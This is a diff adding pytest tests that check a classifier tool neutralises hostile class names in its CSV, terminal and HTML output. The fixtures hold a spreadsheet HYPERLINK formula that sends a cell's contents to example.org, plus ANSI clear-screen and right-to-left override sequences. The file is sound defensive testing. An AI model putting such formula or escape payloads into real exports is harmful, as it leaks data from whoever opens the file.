@@ -1,0 +1,66 @@
+"""Names of classes, parties and methods that would act on a spreadsheet or a terminal."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+
+from command_line import Call
+from consilience.visible import visible
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1;"ill")'
+
+
+@pytest.fixture
+def run(call: Call) -> Path:
+    """A run whose classes are a formula and ``-1``, and whose second method clears the screen."""
+    with Path("clinics.csv").open(newline="") as file:
+        header, *rows = csv.reader(file)
+    with Path("clinics.csv").open("w", newline="") as file:
+        named = ([*row[:-1], {"yes": FORMULA, "no": "-1"}[row[-1]]] for row in rows)
+        csv.writer(file).writerows([header, *named])
+    text = Path("clinics.toml").read_text()
+    label = '{ aggregate = "uwa", label = "\\u001b[2Juwa" }'
+    Path("clinics.toml").write_text(text.replace('"uwa"', label))
+    result = call("run", "clinics.toml", "--out", "run")
+    assert result.exit_code == 0, result.output
+    assert visible(result.output) == result.output and "\\x1b[2Juwa" in result.output
+    return Path("run")
+
+
+def test_a_spreadsheet_computes_no_class(call: Call, run: Path) -> None:
+    rows = ("predict", run, "--party", "north", "--method", "local", "clinics.csv")
+    told = call(*rows).stdout
+    header, *answers = csv.reader(io.StringIO(told))
+    assert header == ["prediction", "-1", f"'{FORMULA}"]
+    assert {answer[0] for answer in answers} == {"-1", f"'{FORMULA}"}
+    call(*rows, "--out", "answers.csv")
+    assert Path("answers.csv").read_text() == told
+
+
+def test_a_strangers_model_says_nothing_to_the_terminal(call: Call, run: Path) -> None:
+    path = run / "models/local/seed-0/north/model.json"
+    about = json.loads(path.read_text())
+    path.write_text(json.dumps({**about, "classes": ["\x1b[2J", "\u202e@SUM(A1)"]}))
+    result = call("predict", run, "--party", "north", "--method", "local", "clinics.csv")
+    assert result.exit_code == 0, result.output
+    assert visible(result.output) == result.output
+    assert next(csv.reader(io.StringIO(result.stdout))) == [
+        "prediction", "\\x1b[2J", "\\u202e@SUM(A1)",
+    ]  # fmt: skip
+
+
+def test_tables_pages_and_errors_say_what_there_is(call: Call, run: Path) -> None:
+    for words in (
+        ("compare", run, run),
+        ("resume", run),
+        ("predict", run, "--party", "\x1b", "x.csv"),
+    ):
+        result = call(*words)
+        assert visible(result.output) == result.output, words
+    page = (run / "report.html").read_text()
+    assert visible(page) == page and "\\x1b[2Juwa" in page
